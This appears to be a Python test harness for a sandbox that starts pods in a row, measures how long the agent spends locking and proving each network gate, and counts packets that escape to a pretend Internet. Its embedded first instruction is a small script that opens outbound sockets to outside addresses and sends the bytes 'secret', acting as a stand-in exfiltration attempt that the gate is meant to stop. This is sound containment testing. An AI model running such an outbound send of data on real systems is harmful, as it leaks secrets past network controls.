"""Starts of workspaces in a row: how long the agent works on each, and what gets out."""

import asyncio
import statistics
import sys
from dataclasses import dataclass
from pathlib import Path

from carrel.node.gate import ADMITTED
from support.ground import Ground, pod
from support.stand import stand, until

# The first instruction of a workspace is an attempt to get out, and so are all that follow; the
# gate stands before it as it does in a pod.
_FIRST_INSTRUCTION = """
import socket, sys
from carrel.node.gate import main
code = main()
for _ in range(5):
    for kind, address in (
        (socket.SOCK_STREAM, ("203.0.113.1", 80)), (socket.SOCK_DGRAM, ("8.8.8.8", 53))
    ):
        channel = socket.socket(socket.AF_INET, kind)
        channel.settimeout(0.05)
        try:
            channel.connect(address)
            channel.send(b"secret")
        except OSError:
            pass
raise SystemExit(code)
"""


@dataclass(frozen=True)
class Starts:
    """What a row of starts showed."""

    count: int
    leaked: int
    """Packets that reached the pretend Internet."""
    milliseconds: tuple[float, ...]
    """The agent's own work of each start: lock and proof."""

    def percentile(self, hundredth: int) -> float:
        """Return a percentile of the agent's work in ms."""
        return statistics.quantiles(self.milliseconds, n=100)[hundredth - 1]


async def start_in_a_row(place: Ground, directory: Path, *, count: int) -> Starts:
    """Start `count` pods one after the other, each in a sandbox whose rules were flushed."""
    before = place.arrived()
    async with stand(directory) as agent:
        await agent.open_workspace()
        for _ in range(count):
            place.pod.run("nft", "flush", "ruleset")
            with pod(place) as made:
                await agent.bind(made)
                gate = made.start(sys.executable, "-c", _FIRST_INSTRUCTION)
                assert await asyncio.to_thread(gate.wait, 60) == ADMITTED
                seen = made.uid
            await agent.unbind()
            await until(lambda uid=seen: uid not in agent.agent._desks)  # type: ignore[misc]  # mypy knows no default of a lambda
        details = agent.details("GateProven")
    spent = tuple((e["lockMicroseconds"] + e["gateMicroseconds"]) / 1000 for e in details)
    return Starts(count=count, leaked=place.arrived() - before, milliseconds=spent)
